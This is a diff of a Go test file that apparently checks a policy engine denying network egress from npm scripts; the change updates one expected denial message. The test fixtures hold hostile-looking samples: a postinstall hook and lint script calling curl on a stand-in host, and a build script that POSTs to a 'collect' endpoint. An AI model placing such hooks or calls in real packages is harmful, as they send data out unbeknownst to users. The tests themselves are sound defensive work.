@@ -63,7 +63,7 @@ func TestScriptFiles_PackageJSON(t *testing.T) {
 		{name: "IgnoreScriptsFalse", files: evil(`    "postinstall": "curl https://x.example"`), command: "npm install --ignore-scripts=false", want: policy.Deny},
 		{name: "ArgumentsAppended", files: evil(`    "sh": "bash"`), command: "npm run sh -- -c 'curl https://x.example'", want: policy.Deny, rule: "commands.egress"},
 		{name: "ScriptRunsCodeFile", files: map[string]string{"package.json": `{"scripts": {"build": "node scripts/build.js"}}`, "scripts/build.js": "await fetch('https://x.example/collect', {method: 'POST'})\n"},
-			command: "npm run build", want: policy.Deny, rule: "commands.egress", reasonHas: []string{"at scripts/build.js:1"}},
+			command: "npm run build", want: policy.Deny, rule: "commands.egress", reasonHas: []string{"at scripts/build.js:1, run from package.json:1"}},
 		{name: "NestedNamesBoth", files: evil(`    "ci": "npm run lint",
     "lint": "eslint . && curl https://x.example"`),
 			command: "npm run ci", want: policy.Deny, reasonHas: []string{"at package.json:5, run from package.json:4"}},
